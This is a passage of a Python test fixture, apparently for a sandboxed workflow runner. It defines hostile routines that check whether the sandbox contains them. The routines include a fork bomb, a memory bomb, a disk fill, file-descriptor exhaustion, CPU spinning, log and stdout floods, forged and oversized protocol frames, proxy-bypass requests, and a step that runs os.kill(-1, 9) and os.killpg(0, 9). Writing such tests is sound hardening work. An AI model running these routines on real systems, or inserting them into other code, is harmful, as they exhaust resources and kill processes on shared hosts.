        "port suffix": f"CONNECT 127.0.0.1:{a}:{b} HTTP/1.1\r\n\r\n",
        "trailing dot": f"CONNECT 127.0.0.1.:{b} HTTP/1.1\r\n\r\n",
        "zero port prefix": f"CONNECT 127.0.0.1:0{b} HTTP/1.1\r\n\r\n",
        "pipelined": (f"GET http://127.0.0.1:{a}/one HTTP/1.1\r\nHost: 127.0.0.1:{a}\r\n\r\n"
                      f"GET http://127.0.0.1:{b}/two HTTP/1.1\r\nHost: 127.0.0.1:{b}\r\n\r\n"),
        "absolute then host header": f"GET http://127.0.0.1:{a}/ HTTP/1.1\r\nHost: 127.0.0.1:{b}\r\n\r\n",
    }
    for label, req in tricks.items():
        out[f"trick {label}"] = _proxy_raw(proxy, req.encode())
    out["direct denied"] = _connect("127.0.0.1", b, timeout=2)
    out["direct allowed"] = _connect("127.0.0.1", a, timeout=2)
    out["direct 1.1.1.1:53"] = _connect("1.1.1.1", 53, timeout=3)
    out["bind a listener"] = _try(lambda: socket.create_server(("127.0.0.1", 0)).getsockname()[1])
    return out


# --- attacks that end their sandbox or their step ----------------------------------------------


@attack
def memory_bomb(ctx):
    hoard = []
    while True:
        hoard.append(bytearray(16 << 20))


@attack
def memory_children(ctx):
    """Children that each stay under the address-space limit, together over the cgroup's."""
    pids = []
    for _ in range(ctx.get("children", 8)):
        pid = os.fork()
        if pid == 0:
            try:
                block = bytearray(ctx.get("mb", 48) << 20)
                for i in range(0, len(block), 4096):
                    block[i] = 1
                time.sleep(ctx.get("hold", 3))
            except MemoryError:
                os._exit(3)
            finally:
                os._exit(0)
        pids.append(pid)
    codes = []
    for pid in pids:
        codes.append(os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]))
    return {"children": codes}


@attack
def fork_bomb(ctx):
    """Fork until refused; the children live a few seconds (the test counts them)."""
    forked, error = 0, None
    try:
        while forked < 10000:
            pid = os.fork()
            if pid == 0:
                time.sleep(ctx.get("hold", 4))
                os._exit(0)
            forked += 1
    except OSError as exc:
        error = [type(exc).__name__, exc.errno]
    _pause_loop(ctx.get("hold", 4))
    reaped = 0
    while True:
        try:
            pid, _ = os.waitpid(-1, 0)
            reaped += 1
        except ChildProcessError:
            break
    threads, terror = [], None
    try:
        for _ in range(10000):
            t = threading.Thread(target=time.sleep, args=(0.5,), daemon=True)
            t.start()
            threads.append(t)
    except RuntimeError as exc:
        terror = str(exc)[:100]
    for t in threads:
        t.join()
    return {"forked": forked, "error": error, "reaped": reaped, "threads": len(threads),
            "thread_error": terror}


@attack
def fd_exhaustion(ctx):
    fds, error = [], None
    try:
        while len(fds) < 100000:
            fds.append(os.open("/dev/null", os.O_RDONLY))
    except OSError as exc:
        error = exc.errno
    opened = len(fds)
    for fd in fds:
        os.close(fd)
    pairs, perror = [], None
    try:
        while len(pairs) < 100000:
            pairs.append(socket.socketpair())
    except OSError as exc:
        perror = exc.errno
    npairs = len(pairs)
    for a, b in pairs:
        a.close()
        b.close()
    return {"opened": opened, "errno": error, "socketpairs": npairs, "socketpair_errno": perror}


@attack
def disk_fill(ctx):
    written, error = 0, None
    chunk = b"\xab" * (1 << 20)
    try:
        n = 0
        while written < (1 << 34):
            n += 1
            with open(f"fill-{n}", "wb") as f:
                for _ in range(4):
                    f.write(chunk)
                    f.flush()
                    written += len(chunk)
    except OSError as exc:
        error = exc.errno
    return {"written_mb": written >> 20, "errno": error,
            "statvfs_mb": (os.statvfs(".").f_blocks * os.statvfs(".").f_frsize) >> 20}


def _spin():
    x = 0
    while True:
        x += 1


@attack
def cpu_spin(ctx):
    _spin()


@attack
def cpu_spin_with_binding_calls(ctx, env=None):
    """Threads that spin while the step calls its WORKFLOWS binding twice a second: a
    binding call is not a step boundary, so it must not start the attempt's CPU anew."""
    for _ in range(2):
        threading.Thread(target=_spin, daemon=True).start()
    deadline = time.monotonic() + ctx.get("seconds", 20)
    calls = 0
    while time.monotonic() < deadline:
        env["WORKFLOWS"].create(params={"attack": "noop", "where": "step"})
        calls += 1
        time.sleep(0.5)
    return {"calls": calls}


@attack
def cpu_spin_background(ctx):
    """A thread that keeps burning CPU after the step and the activation have returned."""
    for _ in range(2):
        threading.Thread(target=_spin, daemon=True).start()
    return {"spinning": True}


@attack
def stdout_flood(ctx):
    line = "flood " * 170  # about 1 KiB
    while True:
        print(line)


@attack
def logging_flood(ctx):
    log = logging.getLogger("hostile")
    line = "flood " * 170
    while True:
        log.error(line)


@attack
def empty_line_flood(ctx):
    """Log messages of empty lines straight on the channel: they weigh nothing against the
    log volume limit and cost this sandbox almost no CPU; each costs the supervisor work."""
    from dynwf_ray.sandbox import protocol
    sent = _flood(protocol.encode({"op": "log", "lines": [["stdout", "", None]] * 50000}), ctx)
    return {**sent, "lines": sent["frames"] * 50000}


def _flood(frame: bytes, ctx) -> dict:
    """Send `frame` straight on the channel, again and again, for ctx["seconds"] (8)."""
    ch = _channel()
    sent = 0
    deadline = time.monotonic() + ctx.get("seconds", 8)
    try:
        while time.monotonic() < deadline:
            with ch._send_lock:
                ch.sock.sendall(frame)
            sent += 1
    except OSError as exc:
        return {"frames": sent, "error": exc.errno}
    return {"frames": sent}


@attack
def span_flood(ctx):
    """Span frames straight on the channel, each span as large as the host keeps one (64
    attributes of 4 KiB): queued for export in the host process, they would be memory the
    hosts of other tenants there share."""
    from dynwf_ray.sandbox import protocol
    span = {"name": "flood", "trace_id": "1" * 32, "span_id": "2" * 16, "parent_id": None,
            "start": 1, "end": 2, "attributes": {f"a{i}": "s" * 4096 for i in range(64)}}
    sent = _flood(protocol.encode({"op": "spans", "spans": [span] * 3}), ctx)
    return {**sent, "spans": sent["frames"] * 3}


@attack
def huge_result(ctx):
    return "x" * (1 << 30)


@attack
def forged_message(ctx):
    """During a step: an answer to a call that is not running, then run()'s own ending."""
    _pause_loop(ctx.get("pause", 0))  # lets the test see which sandbox runs it
    ch = _channel()
    from dynwf_ray.sandbox import protocol
    protocol.send(ch.sock, {"op": "result", "id": 987654, "value": "forged"})
    _pause_loop(5)  # the supervisor ends us meanwhile
    return "not ended"


@attack
def forged_return(ctx):
    """During a step: claim run() returned (with a forged output) while the step still runs."""
    _pause_loop(ctx.get("pause", 0))  # lets the test see which sandbox runs it
    ch = _channel()
    from dynwf_ray.sandbox import protocol
    protocol.send(ch.sock, {"op": "return", "value": "forged output"})
    _pause_loop(5)
    return "not ended"


@attack
def oversized_frame(ctx):
    """A frame header announcing 1 GiB, then as much of it as the supervisor will take."""
    _pause_loop(ctx.get("pause", 0))  # lets the test see which sandbox runs it
    ch = _channel()
    ch.sock.sendall(struct.pack(">I", 1 << 30) + b'{"op":"result","id":1,"value":"')
    block = b"x" * (1 << 20)
    sent = 0
    try:
        while sent < (1 << 30):
            ch.sock.sendall(block)
            sent += len(block)
    except OSError:
        pass
    _pause_loop(5)
    return {"sent_mb": sent >> 20}


@attack
def garbage_frame(ctx):
    _pause_loop(ctx.get("pause", 0))  # lets the test see which sandbox runs it
    ch = _channel()
    body = b"\xff\xfe not json at all"
    ch.sock.sendall(struct.pack(">I", len(body)) + body)
    _pause_loop(5)
    return "not ended"


@attack
def out_of_order(ctx):
    """A request reusing an id the supervisor already saw (id 1: the first step)."""
    _pause_loop(ctx.get("pause", 0))  # lets the test see which sandbox runs it
    ch = _channel()
    from dynwf_ray.sandbox import protocol
    protocol.send(ch.sock, {"op": "do", "id": 1, "name": "replayed", "count": 1})
    _pause_loop(5)
    return "not ended"


@attack
def late_message(ctx):
    """A thread that speaks on the channel after the activation is over."""
    _pause_loop(ctx.get("pause", 0))  # lets the test see which sandbox runs it
    ch = _channel()
    from dynwf_ray.sandbox import protocol

    def later():
        time.sleep(1.0)
        try:
            protocol.send(ch.sock, {"op": "log", "lines": [["stdout", "late", None]]})
        except OSError:
            pass
    threading.Thread(target=later, daemon=True).start()
    return "scheduled"


# --- the workflow ------------------------------------------------------------------------------


_EXECUTED: dict = {}


class Hostile(WorkflowEntrypoint):
    async def run(self, event, step):
        p = event.payload or {}
        name, ctx, where = p["attack"], p.get("ctx") or {}, p.get("where", "both")
        if name == "kill_own_group":
            # SIGKILL to this process's group (which it shares with the trusted host and the
            # template: they forked it) and to every process it can see. It dies too, so only
            # in the first activation: the re-activation replays "arm" without running it.
            await step.do("arm", lambda: _EXECUTED.setdefault("arm", True))
            if _EXECUTED.get("arm"):
                _try(os.kill, -1, 9)
                os.killpg(0, 9)
            return {"replayed": True}
        if name == "hold_slot":  # a step that sleeps: no CPU, its own long timeout
            await step.do("hold", lambda: _pause_loop(ctx.get("seconds", 60)), timeout="1 hour")
            return "held"
        fn = ATTACKS[name]
        call = ((lambda: fn(ctx, env=self.env)) if name in ("binding_abuse", "cpu_spin_with_binding_calls")
                else (lambda: fn(ctx)))
        out: dict = {}
        if where in ("run", "both"):
            out["run"] = call()
        if where in ("step", "both"):
            out["step"] = await step.do(name, call, retries={"limit": 0})
        return out
